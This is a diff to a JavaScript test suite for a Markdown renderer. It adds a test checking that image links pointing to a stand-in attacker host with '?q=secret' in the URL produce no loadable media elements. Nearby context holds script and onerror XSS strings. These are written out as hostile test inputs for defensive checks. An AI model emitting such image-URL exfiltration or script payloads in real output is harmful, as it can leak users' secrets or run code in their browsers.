@@ -14,6 +14,14 @@ describe('a Markdown block', () => {
     expect(shown.textContent).toContain('Image: map')
   })
 
+  it('sends nothing away through the address of an image, whatever its form', () => {
+    const shown = show(
+      '![](https://evil.example/?q=secret)\n\n[![x](https://evil.example/a?q=secret)](https://evil.example/)\n\n' +
+        '![ref]\n\n[ref]: https://evil.example/b?q=secret',
+    )
+    expect(shown.querySelector('img, picture, source, video, audio, link, [style], [srcset]')).toBeNull()
+  })
+
   it('shows HTML as text', () => {
     const shown = show('<script>alert(1)</script>\n\n<img src=x onerror=alert(1)> <iframe src="/"></iframe>')
     expect(shown.querySelector('script, img, iframe')).toBeNull()
